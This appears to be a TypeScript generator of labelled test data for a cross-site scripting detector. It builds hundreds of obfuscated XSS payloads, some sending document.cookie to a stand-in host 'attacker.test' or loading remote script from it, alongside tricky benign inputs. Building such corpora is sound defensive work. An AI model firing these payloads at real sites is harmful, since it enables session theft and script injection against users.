import type { Line } from './lines.ts';

type Random = () => number;
const pick = <T>(random: Random, of: readonly T[]): T => of[Math.floor(random() * of.length)]!;

const space = [' ', '\t', '\n', '/', '\f', ' \t ', '\r\n', '/ '];
const quote = ['"', "'", ''];
const simple = [
  'alert(1)',
  'alert(document.domain)',
  'prompt(1)',
  'confirm(document.cookie)',
  'alert`1`',
  '(alert)(1)',
  "top['al'+'ert'](1)",
  '[1].find(alert)',
  '\\u0061lert(1)',
  'alert.call(null,1)',
  "eval('ale'+'rt(1)')",
  'self["pro"+"mpt"](1)',
  'a=alert,a(1)',
  "location='javascript:alert(1)'",
  "fetch('//attacker.test/?'+document.cookie)",
  'eval(atob(`YWxlcnQoMSk=`))',
  "Function('alert(1)')()",
  "[].at.constructor('alert(1)')()",
  'onerror=alert;throw 1',
  'import("//attacker.test/x.js")',
  "window.open('javascript:alert(1)')",
  'new Image().src="//attacker.test/"+document.cookie',
];
const tags: readonly (readonly [string, string])[] = [
  ['svg', 'onload'],
  ['body', 'onload'],
  ['img src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['a href=x', 'onmouseover'],
  ['div', 'onclick'],
  ['x tabindex=1', 'onfocusin'],
  ['iframe', 'onload'],
  ['audio src', 'onloadstart'],
  ['my-element', 'onpointerenter'],
  ['svg><animate attributeName=x', 'onbegin'],
  ['form', 'onsubmit'],
  ['style', 'onload'],
];
const before = ['', '"><', "'><", '</textarea><', '--><', 'x"/><', 'hello <', '</script><', '\'"><'];

const mixed = (random: Random, text: string): string =>
  [...text].map((c) => (random() < 0.3 ? c.toUpperCase() : c)).join('');

/** Some characters as references, as an attribute takes them. */
const referenced = (random: Random, text: string): string =>
  [...text]
    .map((c) => {
      const r = random();
      if (r < 0.1) return `&#${c.charCodeAt(0)};`;
      if (r < 0.2) return `&#x${c.charCodeAt(0).toString(16)};`;
      return c;
    })
    .join('');

const fits = (code: string, mark: string): string =>
  mark === '"'
    ? code.replaceAll('"', '`')
    : mark === "'"
      ? code.replaceAll("'", '`')
      : code.replaceAll(' ', '/**/');

/** Attacks by grammar: a tag with a handler, a URL that runs, a string left, in many spellings. */
export function grownAttacks(random: Random): Line[] {
  const lines: Line[] = [];
  const add = (value: string, context: string): unknown =>
    lines.push({ value, family: 'xss', context, note: 'grown' });
  for (let i = 0; i < 420; i++) {
    const [tag, on] = pick(random, tags);
    const mark = pick(random, quote);
    let code = fits(pick(random, simple), mark);
    if (random() < 0.25) code = referenced(random, code);
    const start = pick(random, before);
    const open = start === '' ? '<' : start;
    const end = pick(random, ['>', '>', '/>', '>x', '']);
    const name = random() < 0.5 ? on : mixed(random, on);
    add(
      `${open}${mixed(random, tag)}${/=\w$/.test(tag) ? ' ' : pick(random, space)}${name}=${mark}${code}${mark}${end}`,
      'event handler',
    );
  }
  for (let i = 0; i < 120; i++) {
    const code = pick(random, simple).replaceAll(' ', '');
    const gap = random() < 0.3 ? pick(random, ['\t', '\n', '\r']) : '';
    const scheme = mixed(random, `java${gap}script:`);
    const link =
      random() < 0.4
        ? `${scheme}${code}`
        : pick(random, [
            `<a href="${scheme}${fits(code, '"')}">x</a>`,
            `<iframe src='${scheme}${fits(code, "'")}'>`,
            `<form><button formaction="${scheme}${fits(code, '"')}">x`,
            `<svg><a xlink:href="${referenced(random, scheme)}${fits(code, '"')}"><text y=9>x</text></a>`,
          ]);
    add(link, 'URL');
  }
  for (let i = 0; i < 160; i++) {
    const code = pick(random, simple);
    const mark = pick(random, ['"', "'"]);
    const inner = fits(code, mark);
    const expression = !/throw|^location|^a=|src=/.test(code);
    add(
      expression
        ? pick(random, [
            `${mark}-${inner}-${mark}`,
            `${mark};${inner}//`,
            `x${mark}+${inner}+${mark}`,
            `${mark});${inner};//`,
            `\\${mark};${inner}//`,
            `${mark},${inner},${mark}`,
          ])
        : `${mark};${inner}//`,
      'JavaScript string',
    );
  }
  for (let i = 0; i < 120; i++) {
    const code = pick(random, simple);
    const open = pick(random, [
      '<script>',
      '<SCRIPT>',
      '<script >',
      '<script x>',
      '"><script>',
      '</script><script>',
      '<svg><script>',
      "<script type='text/javascript'>",
    ]);
    add(
      `${open}${code}${pick(random, ['</script>', '</SCRIPT >', ';</script>', '//</script>'])}`,
      'script element',
    );
  }
  return lines;
}

const first = ['Anna', 'Seán', 'José', 'Zoë', 'Li', "D'Arcy", 'Jean-Luc', 'Ólafur', 'Nguyễn', 'Maria José'];
const last = [
  "O'Brien",
  "D'Angelo",
  'Müller',
  'van der Berg',
  "N'Diaye",
  'Smith-Jones',
  'García',
  'Østergård',
  'Kowalski',
  'de la Cruz',
];
const things = [
  'order',
  'the "blue" shirt',
  "the driver's seat",
  'item (no. 3)',
  '5" screws',
  'R&D report',
  'a < b',
  'x = y',
  'the <b> tag',
  'C:\\temp',
  '50% off',
  'Q&A',
  '"alert" level',
  'an import',
  'prompt reply',
];
const verbs = [
  'is late',
  "isn't here",
  'costs $5 (net)',
  "won't open",
  'needs a prompt answer',
  'was confirmed: yes',
  'is <10 cm',
  'comes with 2x "AA"',
  'has on=off',
  "doesn't load; why?",
];
const words = [
  'lorem',
  'ipsum',
  'dolor',
  'sit',
  'amet',
  'on',
  'load',
  'alert',
  'script',
  'style',
  'source',
  'click',
  'focus',
  'error',
];
const allowed = ['p', 'b', 'em', 'span', 'div', 'h2', 'li', 'td', 'strong', 'code'];

/** Ordinary values by grammar: sentences, names, mark-up of an editor, structured text, calls of an interface. */
export function grownBenign(random: Random): Line[] {
  const lines: Line[] = [];
  const add = (value: string, context: string): unknown =>
    lines.push({ value, family: 'xss', context, note: 'grown' });
  const sentence = (): string => `${pick(random, first)}'s ${pick(random, things)} ${pick(random, verbs)}`;
  for (let i = 0; i < 120; i++) add(`${pick(random, first)} ${pick(random, last)}`, 'name');
  for (let i = 0; i < 220; i++)
    add(
      `${sentence()}. ${pick(random, ['Please', 'Bitte', "S'il vous plaît", 'Por favor'])} (${pick(random, things)}) - "${sentence()}"`,
      'prose',
    );
  for (let i = 0; i < 160; i++) {
    const tag = pick(random, allowed);
    const style =
      random() < 0.4
        ? ` style="color: ${pick(random, ['red', '#0f0', 'rgb(1, 2, 3)'])}; margin: 0 ${i}px"`
        : ` class="${pick(random, words)}-${pick(random, words)}"`;
    add(
      `<${tag}${style}>${sentence().replaceAll('<', '&lt;')}</${tag}><p><a href="https://example.com/${pick(random, words)}?${pick(random, words)}=${i}&amp;b=(c)">${pick(random, words)}</a></p>`,
      'markup of an editor',
    );
  }
  for (let i = 0; i < 100; i++)
    add(
      JSON.stringify({
        id: i,
        name: `${pick(random, first)} ${pick(random, last)}`,
        note: sentence(),
        [pick(random, words)]: [i, random() < 0.5, null],
      }),
      'JSON',
    );
  for (let i = 0; i < 80; i++)
    add(
      `https://${pick(random, words)}.example.com/${pick(random, words)}/${i}?${pick(random, words)}=${pick(random, words)}&q=${encodeURIComponent(sentence())}#${pick(random, words)}`,
      'URL',
    );
  for (let i = 0; i < 80; i++)
    add(
      `${i},"${pick(random, last)}","${sentence().replaceAll('"', '""')}",'${pick(random, words)}',(${i})`,
      'CSV',
    );
  for (let i = 0; i < 80; i++)
    add(
      `${pick(random, words)}=${pick(random, words)}; ${pick(random, words)}=${Math.floor(random() * 1e9)}; on${pick(random, words)}=${pick(random, ['1', 'true', 'yes', '0'])}`,
      'cookie',
    );
  for (let i = 0; i < 60; i++)
    add(
      `How do I make the ${pick(random, words)} work? I wrote \`${pick(random, ['el.onclick = handle;', "const a = b('c');", 'for (const x of y) { z(x); }', 'List<String> a = f("x");', '<div class="a">{{ b }}</div>'])}\` but ${sentence()}.`,
      'forum post',
    );
  return lines;
}
